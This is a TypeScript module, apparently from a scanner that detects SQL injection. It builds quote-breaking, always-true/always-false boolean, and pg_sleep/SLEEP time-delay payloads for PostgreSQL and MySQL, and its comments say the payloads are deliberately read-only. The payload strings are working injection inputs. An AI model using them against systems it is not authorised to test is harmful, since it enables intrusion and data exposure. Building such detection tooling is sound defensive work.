// Injection payloads. Read-only by construction: conditions, comments, string concatenation and
// sleeps inside SELECT — never a statement terminator (no stacked queries) and no DROP, DELETE,
// UPDATE or INSERT. A test asserts this of every payload.

/** Quote-breaking suffixes (appended to the sample value), each with a balanced control that must not error. */
export const ERROR_PAYLOADS: ReadonlyArray<{ suffix: string; control: string }> = [
  { suffix: "'", control: "''" },
  { suffix: '"', control: '""' },
  { suffix: "')", control: "''" },
];

/** Two always-true and two always-false variants of one condition in one syntactic context. */
export interface BooleanFamily {
  context: string;
  trueA: string;
  trueB: string;
  falseA: string;
  falseB: string;
}

/**
 * String contexts first (the quote-balanced family needs no comment, so it survives `LIKE '%…%'`
 * and servers that strip `--`), then the commented one; numeric parameters also get the bare form.
 */
export function booleanFamilies(base: string, numeric: boolean): BooleanFamily[] {
  const families: BooleanFamily[] = [
    { context: 'string', trueA: "' OR '1'='1", trueB: "' OR 'a'='a", falseA: "' AND '1'='2", falseB: "' AND 'a'='b" },
    { context: 'string, commented', trueA: `${base}' OR 1=1-- -`, trueB: `${base}' OR 2>1-- -`, falseA: `${base}' AND 1=2-- -`, falseB: `${base}' AND 2<1-- -` },
  ];
  if (numeric) families.unshift({ context: 'numeric', trueA: `${base} OR 1=1`, trueB: `${base} OR 2>1`, falseA: `${base} AND 1=2`, falseB: `${base} AND 2<1` });
  return families;
}

/** A payload that delays the answer by `seconds` (once per query, not per row), per database and context. */
export interface DelayPayload {
  db: 'PostgreSQL' | 'MySQL';
  context: 'string' | 'numeric';
  build(seconds: number): string;
}

const secs = (n: number): string => String(Math.round(n * 100) / 100);

// SQLite has no sleep function; its heavy-expression substitutes (randomblob) cost memory and CPU
// without a bound we could promise, so SQLite is covered by the error and boolean techniques only.
// Both forms below run the sleep in an uncorrelated subquery, which the database evaluates once.
export function delayPayloads(base: string, numeric: boolean): DelayPayload[] {
  const string: DelayPayload[] = [
    { db: 'PostgreSQL', context: 'string', build: (n) => `${base}'||(SELECT '' FROM pg_sleep(${secs(n)}))||'` },
    { db: 'MySQL', context: 'string', build: (n) => `${base}' AND (SELECT 1 FROM (SELECT SLEEP(${secs(n)}))gh) AND '1'='1` },
  ];
  if (!numeric) return string;
  return [
    { db: 'PostgreSQL', context: 'numeric', build: (n) => `${base}+(SELECT 0 FROM pg_sleep(${secs(n)}))` },
    { db: 'MySQL', context: 'numeric', build: (n) => `${base} AND (SELECT 1 FROM (SELECT SLEEP(${secs(n)}))gh)` },
    ...string,
  ];
}
